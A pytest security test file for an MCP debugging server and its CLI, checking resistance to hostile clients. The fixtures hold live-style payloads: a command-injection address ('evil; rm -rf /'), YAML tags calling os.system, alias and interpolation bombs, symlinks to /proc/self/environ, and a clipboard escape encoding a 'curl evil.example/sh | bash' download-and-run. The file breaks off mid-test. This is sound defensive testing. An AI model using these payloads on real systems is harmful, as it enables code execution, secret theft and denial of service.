"""Hostile clients: no tool argument makes the server connect anywhere or run code (marker `security`).

Each test names the attack it stands for; each failed on the main before the fix.
"""
from __future__ import annotations

import socket
import sys
import threading
from pathlib import Path

import pytest
from mcp import Client

from grpo_debug.server.app import build_server

pytestmark = [pytest.mark.anyio, pytest.mark.security, pytest.mark.slow]  # CLI black-box: one interpreter per input


class _Listener:
    """A TCP listener on loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = False
        self._t = threading.Thread(target=self._run, daemon=True)
        self._t.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._t.join(2)
        self.sock.close()


async def test_a_client_cannot_name_a_ray_address():
    """Attack 1: probe_host(ray_address=...) made the server ray.init against any address and unpickle."""
    lis = _Listener()
    try:
        async with Client(build_server()) as c:
            r = await c.call_tool("probe_host", {"ray_address": f"127.0.0.1:{lis.port}", "cluster": True})
            assert r.is_error
            text = " ".join(getattr(x, "text", "") for x in r.content)
            assert "no Ray cluster configured" in text and "--ray-address" in text
        tools = {t.name: t for t in (await _list_tools())}
        assert "ray_address" not in tools["probe_host"].input_schema.get("properties", {})
    finally:
        lis.close()
    assert lis.accepted == 0


async def _list_tools():
    async with Client(build_server()) as c:
        return (await c.list_tools()).tools


async def test_owner_address_is_used_from_a_child_process():
    """The owner's address is probed from a child (python -I) whose report crosses as JSON; a refused
    address is a report, not an exception."""
    async with Client(build_server(ray_address="127.0.0.1:1")) as c:
        r = await c.call_tool("probe_host", {"cluster": True})
        assert not r.is_error
        cluster = r.structured_content["cluster"]
        assert cluster["error"] and "could not probe" in cluster["summary"]


def test_bad_owner_address_is_refused():
    from grpo_debug.probes.cluster import check_address, probe_cluster

    for bad in ("evil; rm -rf /", "a" * 300, "host:port", ""):
        with pytest.raises(ValueError):
            check_address(bad)
        assert probe_cluster(bad, timeout=1).error == "bad address"
    assert check_address("ray://10.0.0.5:10001") == "ray://10.0.0.5:10001"


def test_child_processes_never_import_from_the_working_directory(tmp_path, monkeypatch):
    """Attack 6: a planted `torch/` in the server's working directory ran in the numerics child."""
    import subprocess

    from grpo_debug.probes.base import child_argv

    marker = tmp_path / "PWNED"
    pkg = tmp_path / "json"  # a stdlib name the child bootstrap itself imports first
    pkg.mkdir()
    (pkg / "__init__.py").write_text(f"open({str(marker)!r}, 'w').write('x')\n", encoding="utf-8")
    (tmp_path / "grpo_debug.py").write_text(f"open({str(marker)!r}, 'w').write('y')\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    argv = child_argv("grpo_debug.probes.cluster", "--address", "127.0.0.1:1", "--timeout", "1")
    p = subprocess.run(argv, capture_output=True, text=True, timeout=120)
    assert not marker.exists(), p.stderr[-500:]
    assert '"error"' in p.stdout
    assert str(Path(sys.executable)) == argv[0] and "-I" in argv


def test_host_probe_does_not_import_torch():
    """probe_host imported torch into the server process (seconds, GBs) for facts metadata gives."""
    import subprocess

    code = ("import sys; from grpo_debug.probes.collect import collect_host, host_facts; "
            "f = host_facts(collect_host()); print('torch' in sys.modules, f.get('probe.torch_version'))")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    imported, version = p.stdout.split()[:2]
    assert imported == "False", p.stderr[-500:]
    try:
        from importlib.metadata import version as v

        assert version == v("torch")
    except Exception:  # noqa: BLE001 - torch not installed: the fact is absent
        assert version == "None"


# =============================================================================================================
# Hostile inputs (issue 16, attacks 2-5, 7-10): black-box through the CLI (a child process under the scoring
# budget: an answer within 15 s, under 512 MB, exit 0 or 2, no planted environment value echoed, no raw control
# character) and through the MCP server (in process, or in a child where today's code could hang).
# =============================================================================================================

import json  # noqa: E402
import os  # noqa: E402
import re  # noqa: E402
import shutil  # noqa: E402
import signal  # noqa: E402
import subprocess  # noqa: E402
import tempfile  # noqa: E402
import time  # noqa: E402
from dataclasses import dataclass  # noqa: E402

BUDGET_S = 15.0
BUDGET_MB = 512
AS_LIMIT = 3 * 2**30  # a runaway child fails with MemoryError here instead of taking the machine
SECRET = "RTsecret-7f3a9c1e5b"  # planted in the children's environment; must never come back
NUM_SECRET = "918273645"  # planted too: a number, for configs that decode it into a numeric setting
RAW_CTRL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\udc80-\udc9f]")  # C0 but \t \n, DEL, C1, raw 8-bit C1 bytes

_GRPO = shutil.which("grpo-debug", path=str(Path(sys.executable).parent)) or shutil.which("grpo-debug")


def cli_argv(*args: str) -> list[str]:
    return [_GRPO, *args] if _GRPO else [sys.executable, "-m", "grpo_debug.server.cli", *args]


@dataclass
class Run:
    argv: list
    rc: int | None
    out: str
    err: str
    secs: float
    rss_mb: float
    timed_out: bool

    def __str__(self) -> str:
        return (f"{' '.join(map(str, self.argv[-4:]))[:200]}: rc={self.rc} {self.secs:.1f} s {self.rss_mb:.0f} MB"
                f"{' TIMED OUT' if self.timed_out else ''}; stderr: {self.err[-700:]!r}")


# A small wrapper sets the address-space limit, runs argv as its own child and writes that child's peak RSS
# (ru_maxrss) to the file named in argv[1]. Measured from pytest directly, ru_maxrss would include the pytest
# pages the child had mapped before exec (Linux records the old mm's high-water mark at exec).
_LIMIT_EXEC = (
    "import os, resource, sys\n"
    f"resource.setrlimit(resource.RLIMIT_AS, ({AS_LIMIT}, {AS_LIMIT}))\n"
    "pid = os.fork()\n"
    "if pid == 0:\n"
    "    os.execvp(sys.argv[2], sys.argv[2:])\n"
    "_, status, ru = os.wait4(pid, 0)\n"
    "open(sys.argv[1], 'w').write(str(ru.ru_maxrss))\n"
    "sys.exit(os.waitstatus_to_exitcode(status) % 256)\n")


def run_limited(argv: list, *, stdin: Path | None = None, env: dict | None = None, timeout: float = BUDGET_S,
                cwd: str | os.PathLike | None = None) -> Run:
    """Run argv with an address-space limit; returns its exit status, output, wall time and peak RSS
    (os.wait4's ru_maxrss of that child). Killed at ``timeout``."""
    full_env = {**os.environ, "RT_SECRET": SECRET, "RT_NUM_SECRET": NUM_SECRET, "NO_COLOR": "1", **(env or {})}
    with tempfile.TemporaryFile() as fo, tempfile.TemporaryFile() as fe, \
            (open(stdin, "rb") if stdin else open(os.devnull, "rb")) as fi:
        t0 = time.monotonic()
        # The limit is set by a small exec wrapper, not preexec_fn: with preexec_fn the child is forked from
        # pytest, and Linux counts the pages it inherits in ru_maxrss (a 600 MB pytest made an 67 MB CLI look
        # 600 MB); without it subprocess spawns with vfork and ru_maxrss is the child's own.
        rss_file = tempfile.NamedTemporaryFile(suffix=".rss", delete=False).name
        wrapped = [sys.executable, "-c", _LIMIT_EXEC, rss_file, *map(str, argv)]
        p = subprocess.Popen(wrapped, stdin=fi, stdout=fo, stderr=fe, env=full_env, cwd=cwd, start_new_session=True)
        timed_out = False
        while True:
            pid, status, ru = os.wait4(p.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - t0 > timeout:
                timed_out = True
                os.killpg(p.pid, signal.SIGKILL)
                pid, status, ru = os.wait4(p.pid, 0)
                break
            time.sleep(0.02)
        secs = time.monotonic() - t0
        p.returncode = rc = os.waitstatus_to_exitcode(status)
        fo.seek(0)
        fe.seek(0)
        out = fo.read().decode("utf-8", "surrogateescape")
        err = fe.read().decode("utf-8", "surrogateescape")
    try:
        peak_kb = int(Path(rss_file).read_text() or 0)
    except (OSError, ValueError):
        peak_kb = 0  # killed at the timeout: the wrapper wrote nothing (the run already fails as timed out)
    finally:
        Path(rss_file).unlink(missing_ok=True)
    return Run(argv, None if timed_out else rc, out, err, secs, peak_kb / 1024, timed_out)


def cli(*args: str, **kw) -> Run:
    return run_limited(cli_argv(*map(str, args)), **kw)


def assert_answered(r: Run, *, codes: tuple[int, ...] = (0, 2)) -> None:
    """The scoring contract for one hostile input."""
    assert not r.timed_out, f"no answer within {BUDGET_S:g} s: {r}"
    assert r.rc in codes, f"exit status {r.rc} not in {codes}: {r}"
    assert "internal error" not in r.err and "Traceback" not in r.err and "panicked" not in r.err, str(r)
    assert r.secs <= BUDGET_S and r.rss_mb <= BUDGET_MB, str(r)
    assert SECRET not in r.out + r.err and NUM_SECRET not in r.out + r.err, f"environment value echoed: {r}"
    m = RAW_CTRL.search(r.out + r.err)
    assert m is None, f"raw control character {m.group()!r} in the output: {r}"


def refused(r: Run, *words: str) -> None:
    """Exit 2 with one clear line that names the input (and the given words)."""
    assert_answered(r, codes=(2,))
    low = r.err.lower()
    assert "error" in low and all(w.lower() in low for w in words), str(r)


# ---- an MCP server in a child process (a hostile call that hangs today must not hang the test run) -------

MCP_CHILD = r"""
import json, sys, anyio
from mcp import Client
from grpo_debug.server.app import build_server

spec = json.loads(open(sys.argv[1]).read())

def text_of(content):
    return " ".join(getattr(x, "text", "") or "" for x in content or [])

async def main():
    out = []
    async with Client(build_server(allowed_roots=spec["roots"])) as c:
        for kind, name, args in spec["calls"]:
            try:
                if kind == "tool":
                    r = await c.call_tool(name, args)
                    out.append({"is_error": bool(r.is_error), "text": text_of(r.content),
                                "structured": r.structured_content})
                elif kind == "prompt":
                    r = await c.get_prompt(name, args)
                    out.append({"is_error": False, "text": " ".join(text_of([m.content]) for m in r.messages)[:2000]})
                else:
                    r = await c.read_resource(name)
                    out.append({"is_error": False, "text": " ".join(getattr(x, "text", "") for x in r.contents)[:2000]})
            except Exception as e:
                out.append({"is_error": True, "exception": type(e).__name__, "text": str(e)[:5000]})
    print(json.dumps(out))

anyio.run(main)
"""


def mcp_child(calls: list, roots: list, tmp_path: Path, timeout: float = 60) -> tuple[Run, list[dict]]:
    spec = tmp_path / f"mcp_spec_{time.monotonic_ns()}.json"
    spec.write_text(json.dumps({"roots": [str(r) for r in roots], "calls": calls}))
    r = run_limited([sys.executable, "-c", MCP_CHILD, str(spec)], timeout=timeout, cwd=tmp_path)
    try:
        results = json.loads(r.out.strip().splitlines()[-1]) if r.out.strip() else []
    except ValueError:
        results = []
    return r, results


def mcp_text(res: dict) -> str:
    return (res.get("text") or "") + json.dumps(res.get("structured") or {})


def _write(p: Path, data: str | bytes) -> Path:
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        p.write_bytes(data)
    else:
        p.write_text(data, encoding="utf-8")
    return p


def laughs(levels: int, width: int = 9) -> str:
    """The billion-laughs YAML: `levels` mappings of `width` aliases each to the one before."""
    lines = ["a0: &a0 {" + ", ".join(f"x{i}: 1" for i in range(width)) + "}"]
    for lv in range(1, levels + 1):
        lines.append(f"a{lv}: &a{lv} {{" + ", ".join(f"k{i}: *a{lv - 1}" for i in range(width)) + "}")
    return "\n".join(lines) + "\n"


# ---- attack 4 / 10: YAML that explodes, recurses or names Python objects ------------------------------------

def test_yaml_alias_bomb_is_answered_within_budget(tmp_path):
    """Attack 4: a 386-byte billion-laughs took 28 s, 702 bytes never ended (aliases expanded while flattening)."""
    small = _write(tmp_path / "laughs5.yaml", laughs(5))
    big = _write(tmp_path / "laughs7.yaml", laughs(7))
    seq = _write(tmp_path / "laughs_seq.yaml", laughs(7).replace("{", "[").replace("}", "]").replace("k", "").replace(": *", "*"))
    assert len(big.read_bytes()) < 800
    for f in (small, big, seq):
        for cmd in ("check", "triage"):
            r = cli(cmd, f)
            assert_answered(r)
    r = cli("check", big)
    refused(r, str(big), "alias")


def test_recursive_yaml_alias_is_a_clear_error(tmp_path):
    """Attack 10: `a: &a {b: *a}` was an internal error (RecursionError, exit 1)."""
    f = _write(tmp_path / "recursive_alias.yaml", "a: &a\n  b: *a\nc: 1\n")
    refused(cli("check", f), str(f), "alias")
    assert_answered(cli("triage", f))
    assert_answered(cli("nan_guide", "check", f))


def test_unknown_yaml_tags_are_refused_and_never_run(tmp_path):
    """Attack 10: `!!python/object/apply:os.system` was an internal error (ConstructorError, exit 1); it must
    also never construct anything."""
    canary = tmp_path / "CANARY"
    f = _write(tmp_path / "python_tags.yaml",
               f"a: !!python/object/apply:os.system ['touch {canary}']\n"
               f"b: !!python/object/new:subprocess.Popen [['touch', '{canary}']]\n"
               "c: !!python/name:os.system\nd: !custom {x: 1}\nactor_rollout_ref:\n  rollout:\n    n: 1\n")
    refused(cli("check", f), str(f), "tag")
    assert_answered(cli("triage", f))
    assert_answered(cli("nan_guide", "check", f))
    assert not canary.exists()


# ---- attack 2: config interpolation reads the environment -----------------------------------------------------

def _env_config() -> str:
    base = (REPO / "tests" / "configs" / "verl_ppo_trainer_bad.yaml").read_text(encoding="utf-8")
    base = base.replace("train_batch_size: 100", "train_batch_size: ${oc.decode:${oc.env:RT_NUM_SECRET}}")
    base = base.replace("target_modules: all-linear", "target_modules: ${oc.env:RT_SECRET,all-linear}")
    return base + "trainer_extra:\n  project_name: ${oc.env:RT_SECRET}\n  home: ${oc.env:HOME}\n"


REPO = Path(__file__).resolve().parent.parent


def test_config_interpolation_never_reads_the_environment_cli(tmp_path):
    """Attack 2: OmegaConf resolved ${oc.env:VAR} in a config and the value came back in `settings`."""
    f = _write(tmp_path / "envleak.yaml", _env_config())
    for cmd in (("check",), ("triage",), ("nan_guide", "check"), ("muon_clipping", "check")):
        for fmt in ("text", "json"):
            assert_answered(cli(*cmd, f, "--format", fmt))


async def test_config_interpolation_never_reads_the_environment_mcp(monkeypatch):
    """Attack 2 over MCP: pasted config text must not resolve ${oc.env:...}; in-document references still do."""
    monkeypatch.setenv("RT_SECRET", SECRET)
    monkeypatch.setenv("RT_NUM_SECRET", NUM_SECRET)
    text = _env_config()
    async with Client(build_server()) as c:
        for tool, args in (("check_config", {"text": text}), ("triage", {"text": text}),
                           ("nan_guide", {"operation": "check", "text": text})):
            r = await c.call_tool(tool, args)
            dump = json.dumps(r.structured_content) + " ".join(getattr(x, "text", "") for x in r.content)
            assert SECRET not in dump and NUM_SECRET not in dump, (tool, dump[:500])
        r = await c.call_tool("check_config", {"text": text, "detail": "full"})  # every finding's settings
        settings = {s["key"]: s["value"] for f in r.structured_content["findings"] for s in f.get("settings", [])}
        # an in-document reference (response_length: ${data.max_response_length}) is still resolved
        assert settings.get("actor_rollout_ref.rollout.response_length") == 2048, settings


def test_omegaconf_interpolation_bomb_is_bounded(tmp_path):
    """Attack 4: 290 bytes of nested ${x}${x}... interpolations ran > 60 s."""
    lines = ['x0: "aaaaaaaaaa"'] + [f'x{i}: "' + f"${{x{i - 1}}}" * 10 + '"' for i in range(1, 9)]
    f = _write(tmp_path / "ocbomb.yaml", "\n".join(lines) + "\ntrainer:\n  project_name: ${x8}\n")
    for cmd in ("check", "triage"):
        assert_answered(cli(cmd, f))


# ---- attack 4: small inputs that froze the regex engine ---------------------------------------------------------

def test_newlines_are_linear(tmp_path):
    """Attack 4: whole-text multiline `^\\s*` sniffers were quadratic (40 KB of newlines: 56-70 s)."""
    f = _write(tmp_path / "newlines.log", "\n" * 120_000)
    for cmd in (("check",), ("triage",), ("nan_guide", "check"), ("stream_safety", "analyze"), ("playbook", "symptoms")):
        assert_answered(cli(*cmd, f))


def test_comment_of_zeros_is_linear(tmp_path):
    """Attack 4: a `# 000...` comment line backtracked (16 s)."""
    f = _write(tmp_path / "zeros.sh", "# " + "0" * 100_000 + "\n# 1 nodes " + "0" * 50_000 + "\n")
    for cmd in ("check", "triage"):
        assert_answered(cli(cmd, f))


def test_whitespace_lines_are_linear(tmp_path):
    """Attack 4: 2 MB of whitespace lines took 72 s."""
    f = _write(tmp_path / "spaces.log", (" " * 200_000 + "\n") * 10)
    g = _write(tmp_path / "tabs.log", ("\t " * 100_000 + "x\n") * 10)
    h = _write(tmp_path / "metric_spaces.log", ("step:1 - a:1" + " " * 19_900 + "\n" + "x" + " " * 19_900 + "y\n"
                                                + "step" + " " * 19_900 + "\n") * 17)
    assert h.stat().st_size > 1_000_000
    for p in (f, g, h):
        for cmd in ("check", "triage"):
            assert_answered(cli(cmd, p))


def test_tqdm_postfix_does_not_backtrack(tmp_path):
    """Attack 4: a tqdm postfix line backtracked (49 s)."""
    f = _write(tmp_path / "tqdm.log", "Training:  10%| 1/10 [00:01<00:09, " + "a=a" * 40 + "\n"
               + "Training:  10%| 1/10 [00:01<00:09, " + "loss=1, " * 5000 + "\n")
    for cmd in ("check", "triage"):
        assert_answered(cli(cmd, f))


def test_unclosed_quote_in_a_launch_script_is_linear(tmp_path):
    """Attack 4: an unclosed quote in a 64 KB launch script was quadratic (296 s)."""
    body = 'python3 -m verl.trainer.main_ppo data.train_batch_size=8 trainer.project_name="x\n' + "--a 1\n" * 12_000
    f = _write(tmp_path / "launch.sh", body)
    assert len(body) > 64_000
    refused(cli("check", f), str(f), "quote")
    assert_answered(cli("triage", f))


def test_backticks_in_the_triage_log_prompt_are_linear(tmp_path):
    """Attack 4: the triage_log prompt's fence loop took 75 s on 200k backticks."""
    r, res = mcp_child([["prompt", "triage_log", {"log": "`" * 200_000}]], [tmp_path], tmp_path, timeout=30)
    assert not r.timed_out and r.rc == 0, str(r)
    assert res and not res[0]["is_error"], res


# ---- attack 10: well-formed input that raised internal errors ---------------------------------------------------

def test_huge_integers_are_not_internal_errors(tmp_path):
    """Attack 10: a 100k-digit integer was an internal error (int string conversion limit)."""
    digits = "7" * 100_000
    files = [_write(tmp_path / "bigint.yaml", f"trainer:\n  total_epochs: {digits}\n  nnodes: 1\n"),
             _write(tmp_path / "bigint.json", f'{{"train_batch_size": {digits}, "gradient_clipping": 1.0}}'),
             _write(tmp_path / "bigint.log", f"step:1 - actor/grad_norm:{digits} - actor/pg_loss:0.1\n"
                                             f"step 2: {{'loss': {digits}, 'grad_norm': 1.0}}\n")]
    for f in files:
        for cmd in ("check", "triage"):
            assert_answered(cli(cmd, f))
    refused(cli("check", files[0]), str(files[0]), "digits")


def test_deeply_nested_json_is_not_an_internal_error(tmp_path):
    """Attack 10: deeply nested JSON was an internal error (RecursionError)."""
    arr = _write(tmp_path / "deep.json", "[" * 100_000 + "]" * 100_000)
    obj = _write(tmp_path / "deep_obj.json", '{"a":' * 50_000 + "1" + "}" * 50_000)
    yml = _write(tmp_path / "deep.yaml", "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
    log = _write(tmp_path / "deep.log", "step 1: {'a': " + "[" * 20_000 + "]" * 20_000 + "}\n{\n" + '"a":' + "[" * 20_000
                 + "]" * 20_000 + "\n}\n" + '{"message": "x", "a": ' + "[" * 9_000 + "]" * 9_000 + "}\n"
                 + 'step 2: {"loss": ' + "[" * 9_000 + "]" * 9_000 + "}\n")
    for f in (arr, obj, yml, log):
        for cmd in ("check", "triage"):
            assert_answered(cli(cmd, f))
    refused(cli("check", obj), str(obj), "nest")


# ---- attack 9: terminal escapes from a log ------------------------------------------------------------------------

ESCAPES = ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBiYXNo\x1b\\\x1b]0;PWNED-TITLE\x1b\\"
           "\x1b]8;;http://evil.example/\x1b\\see docs\x1b]8;;\x1b\\\x1bP+q544e\x1b\\\x1b[?1049h\x1bc\x1b#8"
           "\u009d0;C1-OSC-TITLE\u009c\u009b31m\x07\x08\x7f\u202e")
ANSI_LOG = ("step:1 - actor/grad_norm:0.5 - actor/pg_loss:0.1\n"
            f"RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB {ESCAPES} (GPU 0; 79.1 GiB total capacity)\n"
            f"step:2 - actor/grad_norm:nan{ESCAPES} - actor/pg_loss:nan\n"
            f"{ESCAPES}Traceback (most recent call last):\n  File \"x{ESCAPES}.py\", line 1, in f\n"
            f"ValueError: bad {ESCAPES}\n"
            "step:3 - actor/grad_norm:1.0\rprogress \x1b]0;T\x07\n")


def test_control_sequences_never_reach_the_terminal(tmp_path):
    """Attack 9: ST-terminated OSC (clipboard, title, hyperlink), DCS, RIS and 8-bit C1 reached the terminal
    through text output; JSON left U+009B/U+009D raw."""
    f = _write(tmp_path / f"ansi{ESCAPES[:12]}.log", ANSI_LOG)
    for cmd in (("triage",), ("check",), ("nan_guide", "diagnose"), ("playbook", "symptoms")):
        r = cli(*cmd, f)
        assert_answered(r)
    r = cli("triage", f)
    assert "CUDA out of memory" in r.out  # the finding is still there, escaped
    r = cli("triage", "-", stdin=f)
    assert_answered(r)
    for cmd in (("triage",), ("check",), ("nan_guide", "diagnose")):
        r = cli(*cmd, f, "--format", "json")
        assert_answered(r)
        json.loads(r.out)
    r = cli("triage", tmp_path / f"missing{ESCAPES}.log")
    assert_answered(r)


# ---- attack 3: a native panic (BaseException) from tokenizers -----------------------------------------------------

def _panic_tokenizer(folder: Path) -> Path:
    tok = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
           "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False},
           "post_processor": None, "decoder": None,
           "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "a": 1}, "unk_token": "[UNK]"}}
    return _write(folder / "tokenizer.json", json.dumps(tok))


def _good_tokenizer(folder: Path) -> Path:
    tok = {"version": "1.0", "truncation": None, "padding": None,
           "added_tokens": [{"id": 1, "content": "<|im_end|>", "single_word": False, "lstrip": False, "rstrip": False,
                             "normalized": False, "special": True}],
           "normalizer": None, "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None, "decoder": None,
           "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "<|im_end|>": 1}, "unk_token": "[UNK]"}}
    return _write(folder / "tokenizer.json", json.dumps(tok))


PANIC_STOP = "a" * 60 + "b"


def test_tokenizer_panic_is_a_result_cli(tmp_path):
    """Attack 3: a catastrophic split regex made `tokenizers` panic; the CLI printed a raw traceback."""
    pytest.importorskip("tokenizers")
    _panic_tokenizer(tmp_path / "tok")
    r = cli("probe", "--no-host", "--tokenizer", tmp_path / "tok", "--stop", PANIC_STOP, "--format", "json")
    assert_answered(r)
    tok = json.loads(r.out)["tokenizer"]
    assert tok.get("unknown") and "tokenizer" in tok["reason"].lower(), tok


def test_tokenizer_panic_does_not_break_the_server(tmp_path):
    """Attack 3 over MCP: PanicException is a BaseException; it passed the guards and broke the server."""
    pytest.importorskip("tokenizers")
    _panic_tokenizer(tmp_path / "tok")
    calls = [["tool", "probe_host", {"tokenizer": str(tmp_path / "tok"), "stop": [PANIC_STOP]}],
             ["tool", "suggest", {"text": "grad norm nan"}],
             ["tool", "triage", {"text": "step:1 - actor/grad_norm:nan"}]]
    r, res = mcp_child(calls, [tmp_path], tmp_path)
    assert not r.timed_out and r.rc == 0 and len(res) == 3, str(r)
    assert not res[1]["is_error"] and not res[2]["is_error"], res
    assert "panicked" not in r.out


# ---- attack 5: symlinks, devices and FIFOs inside a probed folder ---------------------------------------------------

def _hostile_checkpoints(root: Path) -> dict[str, Path]:
    outside = root.parent / f"{root.name}_outside"
    outside.mkdir(exist_ok=True)
    _write(outside / "config.json", json.dumps({"model_type": SECRET, "vocab_size": 10}))
    _write(outside / "latest_checkpointed_iteration.txt", SECRET)
    d = {}
    d["environ"] = root / "ck_environ"
    d["environ"].mkdir(parents=True)
    (d["environ"] / "latest_checkpointed_iteration.txt").symlink_to("/proc/self/environ")
    (d["environ"] / "iter_0000001").mkdir()
    (d["environ"] / "latest").symlink_to("/proc/self/environ")
    d["zero"] = root / "ck_zero"
    d["zero"].mkdir()
    (d["zero"] / "config.json").symlink_to("/dev/zero")
    (d["zero"] / "model.safetensors.index.json").symlink_to("/dev/zero")
    d["fifo"] = root / "ck_fifo"
    d["fifo"].mkdir()
    os.mkfifo(d["fifo"] / "config.json")
    os.mkfifo(d["fifo"] / "latest_checkpointed_iteration.txt")
    d["out"] = root / "ck_out"
    d["out"].mkdir()
    (d["out"] / "config.json").symlink_to(outside / "config.json")
    (d["out"] / "latest_checkpointed_iteration.txt").symlink_to(outside / "latest_checkpointed_iteration.txt")
    (d["out"] / "model.safetensors").write_bytes(b"x" * 100)
    return d


def _hostile_tokenizers(root: Path) -> dict[str, Path]:
    outside = root.parent / f"{root.name}_tok_outside"
    _good_tokenizer(outside)
    _write(outside / "tokenizer_config.json", json.dumps({"eos_token": SECRET}))
    d = {}
    d["out"] = root / "tok_out"
    d["out"].mkdir(parents=True)
    (d["out"] / "tokenizer.json").symlink_to(outside / "tokenizer.json")
    d["cfg_out"] = root / "tok_cfg_out"
    _good_tokenizer(d["cfg_out"])
    (d["cfg_out"] / "tokenizer_config.json").symlink_to(outside / "tokenizer_config.json")
    (d["cfg_out"] / "config.json").symlink_to("/proc/self/environ")
    (d["cfg_out"] / "generation_config.json").symlink_to("/dev/zero")
    d["zero"] = root / "tok_zero"
    d["zero"].mkdir()
    (d["zero"] / "tokenizer.json").symlink_to("/dev/zero")
    d["fifo"] = root / "tok_fifo"
    _good_tokenizer(d["fifo"])
    os.mkfifo(d["fifo"] / "tokenizer_config.json")
    return d


def test_checkpoint_folder_symlinks_are_confined_cli(tmp_path):
    """Attack 5: latest_checkpointed_iteration.txt -> /proc/self/environ returned the environment; config.json ->
    /dev/zero grew to 2.4 GB; a FIFO named config.json blocked forever; links out of the folder were followed."""
    for name, d in _hostile_checkpoints(tmp_path / "root").items():
        r = cli("probe", "--no-host", "--checkpoint", d, "--format", "json")
        assert_answered(r)
        rep = json.loads(r.out)["checkpoint"]
        text = json.dumps(rep)
        assert SECRET not in text, name
        if name in ("out", "environ"):
            assert "outside" in text or "not a regular file" in text, (name, text[:800])
        assert_answered(cli("probe", "--no-host", "--checkpoint", d))


def test_tokenizer_folder_symlinks_are_confined_cli(tmp_path):
    """Attack 5 for the tokenizer probe: tokenizer files that are links out of the folder, devices or FIFOs."""
    pytest.importorskip("tokenizers")
    for name, d in _hostile_tokenizers(tmp_path / "root").items():
        r = cli("probe", "--no-host", "--tokenizer", d, "--stop", "<|im_end|>", "--format", "json")
        assert_answered(r)
        tok = json.loads(r.out)["tokenizer"]
        if name in ("out", "zero"):
            assert tok.get("unknown"), (name, tok)
        else:
            assert tok.get("stop_token_ids") == [1] and SECRET not in json.dumps(tok), (name, tok)


def test_probed_folder_symlinks_are_confined_mcp(tmp_path):
    """Attack 5 over MCP: a folder inside the allowed roots whose files point out of it, at devices or FIFOs."""
    root = tmp_path / "root"
    cks = _hostile_checkpoints(root)
    toks = _hostile_tokenizers(root) if shutil.which("true") else {}
    calls = [["tool", "probe_host", {"checkpoint": str(d)}] for d in cks.values()]
    calls += [["tool", "probe_host", {"tokenizer": str(d), "stop": ["<|im_end|>"]}] for d in toks.values()]
    calls += [["tool", "suggest", {"text": "nan"}]]
    r, res = mcp_child(calls, [root], tmp_path, timeout=60)
    assert not r.timed_out and r.rc == 0 and len(res) == len(calls), str(r)
    assert r.rss_mb <= BUDGET_MB, str(r)
    for call, x in zip(calls, res):
        assert SECRET not in mcp_text(x), (call, mcp_text(x)[:500])
    assert not res[-1]["is_error"]


# ---- attack 7: memory of large and compressed inputs ------------------------------------------------------------

def test_eleven_mib_of_newlines_is_bounded(tmp_path):
    """Attack 7: an 11 MiB text of newlines took 2.5 GB and 83 s."""
    f = _write(tmp_path / "nl.log", b"\n" * (11 * 2**20))
    for cmd in ("triage", "check"):
        assert_answered(cli(cmd, f))
    assert_answered(cli("triage", "-", stdin=f))


def test_gzip_of_nan_lines_is_bounded(tmp_path):
    """Attack 7: a 1.26 MB gzip of `nan` lines took 2.35 GB; streamed files were read in full."""
    import gzip

    f = tmp_path / "nan.log.gz"
    with gzip.open(f, "wb", compresslevel=9) as g:
        chunk = b"nan\n" * (2**20 // 4)
        for _ in range(300):  # 300 MiB uncompressed, ~1.2 MB on disk
            g.write(chunk)
    assert f.stat().st_size < 3 * 2**20
    r = cli("triage", f, "--format", "json")
    assert_answered(r)
    cov = json.loads(r.out)["coverage"]
    assert any("MiB" in s or "lines" in s for s in cov["skipped"]), cov


# ---- attack 3 / 4 / 8: one call never breaks or starves the server -----------------------------------------------

def _metric_log(p: Path, mb: int) -> Path:
    line = "(TaskRunner pid=2210) step:{i} - actor/pg_loss:0.1234 - actor/grad_norm:0.{i} - critic/score/mean:0.55\n"
    with open(p, "w", encoding="utf-8") as fh:
        i, n = 0, 0
        while n < mb * 2**20:
            s = line.format(i=i)
            fh.write(s)
            n += len(s)
            i += 1
    return p


def _slow_chunks(monkeypatch, per_chunk_s: float = 0.5) -> None:
    """Make the real large-log scan take ``per_chunk_s`` more per 4 MiB chunk (Python sleep steps, where a
    cancellation lands), so a test of deadlines or of a full pool does not depend on how fast the engine or the
    machine is: CI once finished the real 24 MB triage inside the 1 s deadline and the deadline test failed."""
    from grpo_debug.tools.engine import large_logs

    real_scan = large_logs.scan_file

    def slow_scan(path, pats, *, progress=None, **kw):
        def slow(*a):
            for _ in range(int(per_chunk_s / 0.01)):
                time.sleep(0.01)
            if progress is not None:
                progress(*a)
        return real_scan(path, pats, progress=slow, **kw)

    monkeypatch.setattr(large_logs, "scan_file", slow_scan)


async def test_heavy_call_past_its_deadline_is_cancelled_and_says_so(tmp_path, monkeypatch):
    """Attack 4: nothing was cancelled; a call ran as long as its input made it. A per-call deadline stops the
    work (the worker thread stops burning CPU) and the answer says so; the next call is served."""
    import anyio

    from grpo_debug.skills.loader import default_rules

    default_rules()  # loaded once, outside any deadline (a busy machine must not make the follow-up call late)
    big = _metric_log(tmp_path / "big.log", 24)
    _slow_chunks(monkeypatch)
    monkeypatch.setenv("GRPO_DEBUG_CALL_TIMEOUT", "1")
    async with Client(build_server(allowed_roots=[tmp_path])) as c:
        t0 = time.monotonic()
        r = await c.call_tool("triage", {"path": str(big)})
        took = time.monotonic() - t0
        text = " ".join(getattr(x, "text", "") for x in r.content)
